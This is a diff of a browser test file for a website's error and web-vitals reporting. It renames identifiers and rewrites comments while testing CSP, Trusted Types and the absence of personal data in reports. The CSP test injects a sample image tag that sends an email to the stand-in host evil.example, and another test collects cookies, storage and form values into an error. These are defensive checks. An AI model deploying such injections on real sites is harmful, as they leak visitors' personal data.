@@ -11,7 +11,7 @@ import { buildVariant, type Variant } from '../support/variant.ts';
 const perPageView = 6;
 let receiver: Receiver<Envelope>;
 let variant: Variant;
-/** Answers as a static host does: it does not mark what it does not find. */
+/** Serves as a static host does: without a marker on not-found pages. */
 let site: RunningServer;
 
 beforeAll(async () => {
@@ -25,49 +25,49 @@ afterAll(async () => {
   variant?.remove();
   await receiver.close();
 });
-beforeEach(() => void (receiver.told as unknown[]).splice(0));
-// The server takes them as well, where the spec names a path of its own.
+beforeEach(() => void (receiver.received as unknown[]).splice(0));
+// The server accepts the same reports, if the spec names a path on the site.
 afterEach(() => {
-  for (const { body } of receiver.told) expect(linesOf(JSON.stringify(body))).toHaveLength(1);
+  for (const { body } of receiver.received) expect(linesOf(JSON.stringify(body))).toHaveLength(1);
 });
 
-/** How pages did is told as well when they are left, and looked at by itself. */
-function isVitals({ body }: Receiver<Envelope>['told'][number]): boolean {
+/** Pages also report their vitals when they are left, which other tests cover. */
+function isVitals({ body }: Receiver<Envelope>['received'][number]): boolean {
   return body.reports[0]?.kind === 'vitals';
 }
 
-function mistakes(): Receiver<Envelope>['told'] {
-  return receiver.told.filter((one) => !isVitals(one));
+function mistakes(): Receiver<Envelope>['received'] {
+  return receiver.received.filter((one) => !isVitals(one));
 }
 
-function told(): readonly Report[] {
+function allReports(): readonly Report[] {
   return mistakes().flatMap(({ body }) => body.reports);
 }
 
-/** Just these arrive, in whatever order. */
+/** Waits for exactly these reports, in any order. */
 async function arrives(...reports: object[]): Promise<void> {
-  await expect.poll(() => told().length).toBe(reports.length);
-  for (const report of reports) expect(told()).toContainEqual(expect.objectContaining(report));
+  await expect.poll(() => allReports().length).toBe(reports.length);
+  for (const report of reports) expect(allReports()).toContainEqual(expect.objectContaining(report));
 }
 
 interface Changes extends BrowserContextOptions {
-  /** A script of the site's own at the end of the head. */
+  /** A same-origin script at the end of the head. */
   readonly script?: string;
-  /** Other changes to the page on its way. */
+  /** Changes the HTML of the page. */
   readonly change?: (html: string) => string;
   readonly before?: (page: Page) => Promise<unknown>;
 }
 
-/** Opens a page of the variant, with a mistake put into it. */
+/** Opens a page of the variant with an error injected. */
 function open(reopen: Reopen, path: string, { script, change, before, ...options }: Changes = {}): Promise<Page> {
-  // Chromium takes a page that a test has changed for one of the internet, which may not ask this machine without leave.
+  // Chromium treats a modified page as one of the public network, which needs a permission to access this machine.
   return reopen(path, { baseURL: site.url, permissions: ['local-network-access'], ...options }, async (page) => {
     await spoil(page, path, script, change);
     await before?.(page);
   });
 }
 
-/** Puts a mistake into a page on its way. */
+/** Injects an error into a page. */
 async function spoil(page: Page, path: string, script?: string, change?: Changes['change']): Promise<void> {
   await page.route('**/assets/broken-1a2b.js', (route) =>
     route.fulfill({ contentType: 'text/javascript', body: script ?? '' }),
@@ -85,7 +85,7 @@ async function spoil(page: Page, path: string, script?: string, change?: Changes
   );
 }
 
-/** Waits until the code that reports is there, and has told of what came before it. */
+/** Waits until the reporting code is loaded, and has sent the earlier errors. */
 function reporting(page: Page): Promise<unknown> {
   return page.waitForFunction(() => Object.hasOwn(window.earlyReports ?? [], 'push'));
 }
@@ -93,7 +93,7 @@ function reporting(page: Page): Promise<unknown> {
 const frame = expect.stringMatching(/^\/assets\/broken-1a2b\.js:1:\d+$/);
 
 describe('a browser reports', () => {
-  test('an error that came before the code that reports it', async ({ reopen }) => {
+  test('an error from before the reporting code was loaded', async ({ reopen }) => {
     await open(reopen, '/inicio', { script: 'null.x' });
     await expect
       .poll(() => mistakes().map(({ body }) => body))
@@ -115,27 +115,27 @@ describe('a browser reports', () => {
     const page = await open(reopen, '/en/contacto', { script, locale: 'en-US' });
     await settled(page);
     await page.locator('h1').click();
-    await expect.poll(() => told().length).toBe(2);
-    expect(told()).toContainEqual({
+    await expect.poll(() => allReports().length).toBe(2);
+    expect(allReports()).toContainEqual({
       kind: 'error',
       name: 'ReferenceError',
       code: 'unknown-name',
       frames: expect.arrayContaining([frame]),
     });
-    expect(told()).toContainEqual({ kind: 'rejection', name: 'RangeError', code: 'other', frames: [frame] });
+    expect(allReports()).toContainEqual({ kind: 'rejection', name: 'RangeError', code: 'other', frames: [frame] });
     expect(mistakes()[0]?.body).toMatchObject({ page: 'contact', locale: 'en' });
   });
 
   test('a part of the site that cannot be loaded', async ({ reopen }) => {
     const page = await open(reopen, '/inicio');
-    // Otherwise its own file may be one of those that cannot be loaded, and nobody tells of anything.
+    // Otherwise the reporting code itself could fail to load.
     await reporting(page);
     await page.route('**/assets/chunks/**', (route) => route.abort());
     await page.locator('form#contact-home [name=name]').focus();
     await arrives({ kind: 'load', file: expect.stringMatching(/^\/assets\/chunks\/chunk-.+\.js$/) });
   });
 
-  test('what the content security policy stops: an origin at most', async ({ reopen, stopped }) => {
+  test('violations of the content security policy, with the origin at most', async ({ reopen, stopped }) => {
     const foreign = '<script>1</script><img src="https://evil.example/ana.png?email=ana">';
     await open(reopen, '/inicio', { change: (html) => html.replace('</body>', `${foreign}</body>`) });
     await arrives(
@@ -145,7 +145,7 @@ describe('a browser reports', () => {
     await wasStopped(stopped, 2);
   });
 
-  test('what Trusted Types stop', async ({ reopen, stopped }) => {
+  test('violations of Trusted Types', async ({ reopen, stopped }) => {
     await open(reopen, '/inicio', { script: "document.createElement('p').innerHTML = '<b>ana</b>'" });
     await arrives(
       { kind: 'policy', directive: 'require-trusted-types-for', blocked: 'trusted-types-sink', frames: [frame] },
@@ -154,7 +154,7 @@ describe('a browser reports', () => {
     await wasStopped(stopped, 1);
   });
 
-  test('the same thing once, and so many different ones', async ({ reopen }) => {
+  test('the same error once, and a limited number of different ones', async ({ reopen }) => {
     const script = `for (let i = 0; i < 20; i += 1) setTimeout(() => { throw new Error(); });
 const fail = (i) => { throw new Error(); };
 ${Array.from({ length: 20 }, (_, index) => `setTimeout(() => fail(${index}));`).join('\n')}
@@ -163,26 +163,26 @@ setTimeout(() => { window.done = true; }, 50);`;
     await page.waitForFunction('window.done');
     await expect.poll(() => mistakes().length).toBe(perPageView);
     await settled(page);
-    expect(new Set(told().map((report) => JSON.stringify(report))).size).toBe(perPageView);
+    expect(new Set(allReports().map((report) => JSON.stringify(report))).size).toBe(perPageView);
     expect(mistakes()).toHaveLength(perPageView);
   });
 });
 
-describe('how a page did for a visitor', () => {
-  const vitals = (): readonly Report[] => receiver.told.filter(isVitals).flatMap(({ body }) => body.reports);
+describe('the web vitals of a page', () => {
+  const vitals = (): readonly Report[] => receiver.received.filter(isVitals).flatMap(({ body }) => body.reports);
 
-  test('is told once a visit, when the first page is left, and of no visitor', async ({ openPage }) => {
+  test('are reported once a visit, when the first page is left, without personal data', async ({ openPage }) => {
     const page = await openPage('/contacto', { baseURL: site.url });
     await settled(page);
     await page.locator('#contact-page [name=name]').click();
     await page.keyboard.type('Ana');
-    // How long an answer took is known once it has been drawn.
+    // The duration of an interaction is known after the next paint.
     await page.waitForFunction(() => performance.getEntriesByType('first-input').length > 0);
     await page.goto('/inicio');
     await expect
       .poll(vitals)
       .toEqual([{ kind: 'vitals', lcp: expect.any(Number), inp: expect.any(Number), cls: expect.any(Number) }]);
-    expect(receiver.told.find(isVitals)?.body).toMatchObject({ from: 'browser', page: 'contact', locale: 'es' });
+    expect(receiver.received.find(isVitals)?.body).toMatchObject({ from: 'browser', page: 'contact', locale: 'es' });
     await settled(page);
     await page.goto('/servicios');
     await settled(page);
@@ -197,7 +197,7 @@ describe('a browser does not report', () => {
     expect(mistakes()).toEqual([]);
   };
 
-  test('to another site what a visitor who wants to be left alone meets', async ({ openPage }) => {
+  test('to another site the errors of a visitor with a privacy signal', async ({ openPage }) => {
     const page = await openPage('about:blank', { baseURL: site.url });
     await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
     await spoil(page, '/inicio', broken.script);
@@ -206,12 +206,12 @@ describe('a browser does not report', () => {
   });
 });
 
-describe('no report has anything of a visitor’s', () => {
+describe('a report has no personal data', () => {
   const marks = ['marca.correo@persona.example', '5587654321', 'MarcaNombre'] as const;
   const [email, phone, name] = marks;
 
   test('from address, form, storage, cookies, message or page before', async ({ reopen }) => {
-    // Everything that a script can reach is put into what is thrown.
+    // The thrown error contains everything that a script can access.
     const script = `const all = () => [location.href, document.cookie, document.referrer, JSON.stringify(localStorage), JSON.stringify(sessionStorage),
   ...[...document.querySelectorAll('input, textarea')].map((field) => field.value)].join('\\n    at x (' + location.origin + '/assets/${name}.js:1:1)\\n');
 class MarcaNombre extends Error { name = ${JSON.stringify(name)} }
@@ -237,12 +237,12 @@ addEventListener('blur', () => {
     await page.locator('#contact-page [name=message]').focus();
     const kinds = ['error SyntaxError', 'error Error', 'error Error', 'error none', 'rejection none'];
     await expect
-      .poll(() => told().map((report) => `${report.kind} ${'name' in report ? report.name : ''}`))
+      .poll(() => allReports().map((report) => `${report.kind} ${'name' in report ? report.name : ''}`))
       .toEqual(expect.arrayContaining(kinds));
-    for (const mark of marks) expect(JSON.stringify(receiver.told)).not.toContain(mark);
+    for (const mark of marks) expect(JSON.stringify(receiver.received)).not.toContain(mark);
   });
 
-  test('nor has the request that brings it', async ({ reopen }) => {
+  test('nor does its request have any', async ({ reopen }) => {
     await open(reopen, `/inicio?nombre=${name}`, {
       script: 'null.x',
       before: (page) => page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]),
@@ -254,7 +254,7 @@ addEventListener('blur', () => {
   });
 });
 
-describe('as long as the spec does not ask for it', () => {
+describe('without reports in the spec', () => {
   test('without a collector, errors are sent nowhere and pages have no code for it', async ({ reopen }) => {
     expect(spec.integrations).not.toHaveProperty('reports');
     const requests: string[] = [];
